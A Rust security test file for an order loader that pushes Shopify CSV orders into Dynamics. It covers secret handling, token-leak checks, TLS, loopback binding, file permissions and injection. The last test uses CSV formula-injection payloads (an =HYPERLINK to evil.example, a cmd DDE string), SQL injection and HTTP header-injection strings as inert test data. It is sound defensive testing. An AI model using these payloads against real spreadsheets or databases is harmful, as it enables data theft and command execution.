//! Security: secrets only from the environment or a file and never written anywhere, TLS
//! verification, a loopback-only emulator, a private database file, and hostile input that
//! stays inert text from the file to Dynamics and back out in the reports.

use crate::common::*;
use crate::reliability::{edit_config, post_json};
use serde_json::{json, Value};
use std::io::BufRead;
use std::process::Stdio;
use std::sync::{Arc, Mutex};

const SHOP: &str = "[[channel]]\nname = \"shop\"\nformat = \"shopify\"\n";
/// A secret no code path has a reason to print.
const CANARY_SECRET: &str = "canary-S3cr3t-7f1d2c9e-do-not-log";

#[test]
fn there_is_no_flag_for_the_client_secret() {
    let ws = Workspace::new();
    ws.write_config(Some("http://127.0.0.1:9"), SHOP);
    for args in [
        &["submit", "--client-secret", "x"][..],
        &["run", "--client-secret=x"][..],
        &["--client-secret", "x", "submit"][..],
        &["submit", "--secret", "x"][..],
    ] {
        let out = ws.run(args);
        assert_code(&out, 2);
        assert!(
            stderr(&out).contains("unexpected argument"),
            "{args:?}: {}",
            stderr(&out)
        );
    }
    for cmd in [
        &["--help"][..],
        &["submit", "--help"][..],
        &["run", "--help"][..],
        &["rerun", "--help"][..],
    ] {
        let help = stdout(&ws.run(cmd));
        assert!(
            !help.to_lowercase().contains("secret"),
            "{cmd:?} offers a secret flag:\n{help}"
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_secret_comes_from_a_file_or_the_environment_and_nowhere_else() {
    let emu = emulator(|c| c.client_secret = CANARY_SECRET.into()).await;
    let ws = Workspace::new();
    ws.write_config(Some(&emu.base_url), SHOP);
    let file = ws.write_file("in/a.csv", &shopify_csv(3, 1, "S"));
    assert_code(
        &ws.run(&["ingest", "--channel", "shop", file.to_str().unwrap()]),
        0,
    );

    // Neither set: the run stops before sending, naming where the secret should come from.
    let mut cmd = ws.cmd();
    cmd.env_remove("ORDERLOAD_CLIENT_SECRET").arg("submit");
    let out = tokio::task::spawn_blocking(move || cmd.output().unwrap())
        .await
        .unwrap();
    assert!(
        matches!(out.status.code(), Some(1) | Some(5)),
        "{}",
        stderr(&out)
    );
    assert!(
        stderr(&out).contains("ORDERLOAD_CLIENT_SECRET"),
        "{}",
        stderr(&out)
    );
    assert_eq!(emu.state().await["tokens_issued"], 0);

    // A file (first line; the environment variable is not needed).
    let secret_file = ws.write_file("secrets/client_secret", &format!("{CANARY_SECRET}\n"));
    edit_config(
        &ws,
        "client_secret_env = \"ORDERLOAD_CLIENT_SECRET\"",
        &format!(
            "client_secret_env = \"ORDERLOAD_UNSET_SECRET\"\nclient_secret_file = \"{}\"",
            secret_file.display()
        ),
    );
    let mut cmd = ws.cmd();
    cmd.env_remove("ORDERLOAD_CLIENT_SECRET").arg("submit");
    let out = tokio::task::spawn_blocking(move || cmd.output().unwrap())
        .await
        .unwrap();
    assert_code(&out, 0);
    assert_eq!(emu.state().await["salesorders"], 3);

    // The environment, named by client_secret_env.
    let ws2 = Workspace::new();
    ws2.write_config(Some(&emu.base_url), SHOP);
    edit_config(
        &ws2,
        "client_secret_env = \"ORDERLOAD_CLIENT_SECRET\"",
        "client_secret_env = \"MY_DYNAMICS_SECRET\"",
    );
    let file = ws2.write_file("in/b.csv", &shopify_csv(2, 1, "E"));
    assert_code(
        &ws2.run(&["ingest", "--channel", "shop", file.to_str().unwrap()]),
        0,
    );
    let mut cmd = ws2.cmd();
    cmd.env_remove("ORDERLOAD_CLIENT_SECRET")
        .env("MY_DYNAMICS_SECRET", CANARY_SECRET)
        .arg("submit");
    let out = tokio::task::spawn_blocking(move || cmd.output().unwrap())
        .await
        .unwrap();
    assert_code(&out, 0);
    assert_eq!(emu.state().await["salesorders"], 5);
    emu.shutdown().await;
}

/// A token endpoint in front of the emulator's that remembers every access token it hands out,
/// so the leak test can look for the exact bearer tokens the loader used.
async fn recording_token_proxy(token_url: String) -> (String, Arc<Mutex<Vec<String>>>) {
    use axum::routing::post;
    let seen = Arc::new(Mutex::new(Vec::<String>::new()));
    let record = seen.clone();
    let app = axum::Router::new().route(
        "/{tenant}/oauth2/v2.0/token",
        post(
            move |headers: axum::http::HeaderMap, body: axum::body::Bytes| {
                let token_url = token_url.clone();
                let record = record.clone();
                async move {
                    let mut req = reqwest::Client::new().post(&token_url).body(body.to_vec());
                    for name in ["content-type", "authorization"] {
                        if let Some(v) = headers.get(name) {
                            req = req.header(name, v.to_str().unwrap_or_default());
                        }
                    }
                    let resp = req.send().await.unwrap();
                    let status = resp.status().as_u16();
                    let v: Value = resp.json().await.unwrap();
                    if let Some(t) = v["access_token"].as_str() {
                        record.lock().unwrap().push(t.to_string());
                    }
                    (
                        axum::http::StatusCode::from_u16(status).unwrap(),
                        axum::Json(v),
                    )
                }
            },
        ),
    );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    (url, seen)
}

#[tokio::test(flavor = "multi_thread")]
async fn neither_the_secret_nor_a_bearer_token_appears_in_logs_database_reports_or_metrics() {
    let emu = emulator(|c| {
        c.client_secret = CANARY_SECRET.into();
        c.token_lifetime_secs = 2;
        c.fail_rate = 0.2;
        c.seed = 11;
    })
    .await;
    let (authority, tokens) = recording_token_proxy(emu.token_url.clone()).await;
    let ws = Workspace::new();
    let inbox = ws.path().join("inbox");
    ws.write_config(
        Some(&emu.base_url),
        &format!(
            "[[channel]]\nname = \"shop\"\nformat = \"shopify\"\ninbox = \"{}\"\n",
            inbox.display()
        ),
    );
    edit_config(
        &ws,
        &format!("authority = \"{}\"", emu.base_url),
        &format!("authority = \"{authority}\""),
    );
    edit_config(&ws, "batch_size = 10", "batch_size = 3");
    // One order fails permanently (a postal code longer than the column), so failure paths,
    // hints and error messages are exercised too.
    let csv = shopify_csv(12, 2, "Z").replacen(
        "Springfield,'02134,MA,US,,,,,Stripe",
        "Springfield,'02134-0000-0000-0000-0000,MA,US,,,,,Stripe",
        1,
    );
    ws.write_file("inbox/a.csv", &csv);

    let mut transcript = String::new();
    let metrics = ws.path().join("metrics/orderload.prom");
    let commands: Vec<Vec<String>> = vec![
        vec![
            "--log-format".into(),
            "json".into(),
            "run".into(),
            "--metrics-file".into(),
            metrics.display().to_string(),
        ],
        vec![
            "--log-format".into(),
            "pretty".into(),
            "submit".into(),
            "--dry-run".into(),
        ],
        vec![
            "--log-format".into(),
            "pretty".into(),
            "rerun".into(),
            "--failed".into(),
        ],
        vec![
            "--log-format".into(),
            "json".into(),
            "rerun".into(),
            "--batch".into(),
            "1".into(),
            "--include-succeeded".into(),
        ],
    ];
    for (i, args) in commands.iter().enumerate() {
        if i == 2 {
            post_json(
                &format!("{}/_emulator/revoke-tokens", emu.base_url),
                json!({}),
            )
            .await;
        }
        let mut cmd = ws.cmd();
        cmd.env("ORDERLOAD_CLIENT_SECRET", CANARY_SECRET)
            .env("ORDERLOAD_LOG", "debug")
            .args(args);
        let out = tokio::task::spawn_blocking(move || cmd.output().unwrap())
            .await
            .unwrap();
        assert!(
            matches!(out.status.code(), Some(0) | Some(3)),
            "{args:?}\n{}",
            stderr(&out)
        );
        transcript.push_str(&stdout(&out));
        transcript.push_str(&stderr(&out));
    }
    for format in ["table", "json", "csv"] {
        for extra in [
            &[][..],
            &["--failed"][..],
            &["--order", "shop:#Z1000"][..],
            &["--order", "shop:#Z1001"][..],
            &["--batch", "1"][..],
        ] {
            let mut args = vec!["report", "--format", format];
            args.extend_from_slice(extra);
            let mut cmd = ws.cmd();
            cmd.env("ORDERLOAD_CLIENT_SECRET", CANARY_SECRET)
                .env("ORDERLOAD_LOG", "debug")
                .args(&args);
            let out = tokio::task::spawn_blocking(move || cmd.output().unwrap())
                .await
                .unwrap();
            assert_code(&out, 0);
            assert!(!stdout(&out).is_empty(), "{args:?}");
            transcript.push_str(&stdout(&out));
            transcript.push_str(&stderr(&out));
        }
    }
    let tokens = tokens.lock().unwrap().clone();
    let state = emu.state().await;
    assert!(
        tokens.len() >= 2,
        "tokens were refreshed: {tokens:?} {state}"
    );
    assert_eq!(
        state["tokens_issued"].as_u64().unwrap() as usize,
        tokens.len(),
        "every token issued was recorded: {state}"
    );
    // Debug logs were really on (so the test would see a leak at the most verbose level).
    assert!(
        transcript.contains("DEBUG") || transcript.contains("\"level\":\"DEBUG\""),
        "no debug lines"
    );
    assert!(
        transcript.contains("value_too_long"),
        "the failure is in the reports"
    );

    let mut haystacks: Vec<(String, Vec<u8>)> =
        vec![("stdout+stderr".into(), transcript.into_bytes())];
    for suffix in ["", "-wal", "-shm"] {
        let p = format!("{}{suffix}", ws.db_path().display());
        if let Ok(bytes) = std::fs::read(&p) {
            haystacks.push((p, bytes));
        }
    }
    haystacks.push(("metrics".into(), std::fs::read(&metrics).unwrap()));
    let mut needles: Vec<String> = vec![
        CANARY_SECRET.to_string(),
        "Bearer ".into(),
        "client_secret=".into(),
    ];
    needles.extend(tokens.iter().cloned());
    // Token-looking strings (the emulator's shape and a JWT's) as a net for tokens not seen.
    needles.push("emu.".into());
    needles.push("eyJ0".into());
    for (name, bytes) in &haystacks {
        for needle in &needles {
            let found = bytes.windows(needle.len()).any(|w| w == needle.as_bytes());
            assert!(!found, "{needle:?} found in {name}");
        }
    }
    emu.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn tls_is_verified_a_self_signed_server_is_refused_unless_its_certificate_is_trusted() {
    let certs = tempfile::tempdir().unwrap();
    let cert = certs.path().join("emulator.pem");
    let c2 = cert.clone();
    let emu = emulator(move |c| {
        c.tls = true;
        c.cert_out = Some(c2);
    })
    .await;
    assert!(emu.base_url.starts_with("https://"));
    assert_eq!(emu.cert_pem_path.as_deref(), Some(cert.as_path()));
    let ws = Workspace::new();
    ws.write_config(Some(&emu.base_url), SHOP);
    let file = ws.write_file("in/a.csv", &shopify_csv(3, 1, "T"));
    assert_code(
        &ws.run(&["ingest", "--channel", "shop", file.to_str().unwrap()]),
        0,
    );

    let out = run_async(&ws, &["submit"]).await;
    assert_code(&out, 5);
    let err = stderr(&out).to_lowercase();
    assert!(err.contains("certificate"), "the message says why: {err}");
    assert_eq!(
        ws.query_i64("SELECT COUNT(*) FROM staged_orders WHERE status = 'pending'"),
        3
    );
    assert_eq!(
        emu.state().await["tokens_issued"],
        0,
        "nothing was sent to an untrusted server"
    );

    edit_config(
        &ws,
        "[target.retry]",
        &format!("ca_file = \"{}\"\n[target.retry]", cert.display()),
    );
    let out = run_async(&ws, &["submit"]).await;
    assert_code(&out, 0);
    assert_eq!(emu.state().await["salesorders"], 3);
    emu.shutdown().await;
}

#[test]
fn the_emulator_listens_on_loopback_unless_told_otherwise() {
    let bin = env!("CARGO_BIN_EXE_orderload");
    // Default: loopback.
    let mut child = std::process::Command::new(bin)
        .arg("emulator")
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut first = String::new();
    std::io::BufReader::new(child.stdout.take().unwrap())
        .read_line(&mut first)
        .unwrap();
    child.kill().unwrap();
    child.wait().unwrap();
    assert!(first.contains("listening on http://127.0.0.1:"), "{first}");

    // A non-loopback address is refused, with the reason.
    let out = std::process::Command::new(bin)
        .args(["emulator", "--listen", "0.0.0.0:0"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("refusing to listen on non-loopback address 0.0.0.0:0"),
        "{}",
        stderr(&out)
    );
    assert!(stderr(&out).contains("--allow-non-loopback"));

    // Unless explicitly allowed.
    let mut child = std::process::Command::new(bin)
        .args(["emulator", "--listen", "0.0.0.0:0", "--allow-non-loopback"])
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut first = String::new();
    std::io::BufReader::new(child.stdout.take().unwrap())
        .read_line(&mut first)
        .unwrap();
    child.kill().unwrap();
    child.wait().unwrap();
    assert!(first.contains("listening on"), "{first}");
}

#[tokio::test(flavor = "multi_thread")]
async fn the_database_and_its_journal_are_private_even_with_a_permissive_umask() {
    use std::os::unix::fs::PermissionsExt;
    let emu = emulator(|_| {}).await;
    let ws = Workspace::new();
    ws.write_config(Some(&emu.base_url), SHOP);
    let file = ws.write_file("in/a.csv", &shopify_csv(2, 1, "M"));
    let bin = env!("CARGO_BIN_EXE_orderload");
    let script = format!(
        "umask 000 && '{bin}' --config '{}' ingest --channel shop '{}' && '{bin}' --config '{}' submit",
        ws.config_path().display(),
        file.display(),
        ws.config_path().display()
    );
    let out = tokio::task::spawn_blocking(move || {
        std::process::Command::new("sh")
            .arg("-c")
            .arg(script)
            .env("ORDERLOAD_CLIENT_SECRET", SECRET)
            .output()
            .unwrap()
    })
    .await
    .unwrap();
    assert_code(&out, 0);
    for suffix in ["", "-wal", "-shm"] {
        let p = std::path::PathBuf::from(format!("{}{suffix}", ws.db_path().display()));
        if p.exists() {
            let mode = std::fs::metadata(&p).unwrap().permissions().mode() & 0o777;
            assert_eq!(mode, 0o600, "{} has mode {mode:o}", p.display());
        } else {
            assert!(!suffix.is_empty(), "the database exists");
        }
    }
    emu.shutdown().await;
}

/// A token for reading the emulator's Web API directly, the way any client gets one.
async fn direct_token(emu: &orderload::emulator::RunningEmulator) -> String {
    let form = format!(
        "grant_type=client_credentials&client_id=orderload-emulator&client_secret={SECRET}&scope={}/.default",
        emu.base_url
    );
    let v: Value = reqwest::Client::new()
        .post(&emu.token_url)
        .header("content-type", "application/x-www-form-urlencoded")
        .body(form)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    v["access_token"]
        .as_str()
        .unwrap_or_else(|| panic!("{v}"))
        .to_string()
}

#[tokio::test(flavor = "multi_thread")]
async fn injection_attempts_stay_inert_text_from_the_file_to_dynamics_and_the_reports() {
    let emu = emulator(|_| {}).await;
    let ws = Workspace::new();
    ws.write_config(Some(&emu.base_url), SHOP);
    let corpus = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/corpus/shopify");
    let header = std::fs::read_to_string(corpus.join("17-formula-cells.csv")).unwrap();
    let header = header.lines().next().unwrap().to_string();
    // An order whose id is a formula and that fails (postal code too long), so it is listed
    // in `report --failed`.
    let formula_id = "=HYPERLINK(\"http://evil.example\",\"x\")";
    let failing = format!(
        "{header}\n\"=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\",ann@example.com,paid,2025-03-01 10:00:00 +0100,USD,10.00,5.00,0.00,15.00,2025-03-01 10:00:00 +0100,1,Tee,10.00,SKU-1,@attacker,Ann,1 Main St,Springfield,02134-0000-0000-0000-0000,US,-1+1\n"
    );
    let files = [
        corpus.join("17-formula-cells.csv"),
        corpus.join("24-sql-and-header-injection.csv"),
        ws.write_file("in/failing.csv", &failing),
    ];
    for f in &files {
        assert_code(
            &ws.run(&["ingest", "--channel", "shop", f.to_str().unwrap()]),
            0,
        );
    }
    let out = run_async(&ws, &["submit"]).await;
    assert_code(&out, 3);
    // The tables are intact and every order is accounted for.
    assert_eq!(ws.query_i64("SELECT COUNT(*) FROM staged_orders"), 3);
    assert_eq!(
        ws.query_i64("SELECT COUNT(*) FROM staged_orders WHERE status = 'succeeded'"),
        2
    );
    assert!(ws.query_i64("SELECT COUNT(*) FROM ledger") >= 9);
    assert_eq!(assert_stored_once(&emu.base_url).await, 2);

    // What Dynamics stored is the text as written, CR LF and quotes included.
    let token = direct_token(&emu).await;
    let stored: Value = reqwest::Client::new()
        .get(format!(
            "{}/api/data/v9.2/salesorders?$select=name,description,shipto_name,shipto_city,new_externalorderid",
            emu.base_url
        ))
        .bearer_auth(&token)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let rows = stored["value"]
        .as_array()
        .unwrap_or_else(|| panic!("{stored}"));
    let find = |external: &str| {
        rows.iter()
            .find(|r| r["name"].as_str() == Some(&format!("shop {external}")))
            .unwrap_or_else(|| panic!("{external} not stored: {stored}"))
            .clone()
    };
    let sql = find("#Q100'); DROP TABLE staged_orders;--");
    assert_eq!(
        sql["description"],
        "X\r\nHost: evil.example\r\n\r\nGET / HTTP/1.1"
    );
    assert_eq!(sql["shipto_name"], "Robert'); DROP TABLE staged_orders;--");
    assert_eq!(sql["shipto_city"], "Springfield\"; DELETE FROM ledger; --");
    let formula = find("#F100");
    assert_eq!(
        formula["description"],
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"
    );
    assert_eq!(formula["shipto_name"], "+cmd|' /C calc'!A0");
    assert_eq!(formula["shipto_city"], "@SUM(1+1)");

    // The CSV reports guard every cell a spreadsheet would run as a formula.
    let order_arg = format!("shop:{formula_id}");
    for args in [
        vec!["report", "--format", "csv"],
        vec!["report", "--failed", "--format", "csv"],
        vec!["report", "--order", order_arg.as_str(), "--format", "csv"],
        vec!["report", "--order", "shop:#F100", "--format", "csv"],
    ] {
        let out = run_async(&ws, &args).await;
        assert_code(&out, 0);
        let text = stdout(&out);
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(text.as_bytes());
        let mut cells = 0;
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                cells += 1;
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{args:?}: unguarded cell {cell:?}\n{text}"
                );
            }
        }
        assert!(cells > 0, "{args:?}");
        if args.contains(&"--failed") {
            assert!(
                text.contains("'=HYPERLINK"),
                "the formula id is listed, guarded:\n{text}"
            );
        }
    }
    // JSON keeps the text exactly (it is data for tools, not a spreadsheet).
    let out = run_async(&ws, &["report", "--failed", "--format", "json"]).await;
    let v: Value = serde_json::from_str(&stdout(&out)).unwrap();
    let ids: Vec<&str> = v["failed_orders"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|o| o["external_id"].as_str())
        .collect();
    assert_eq!(ids, vec![formula_id]);
    emu.shutdown().await;
}
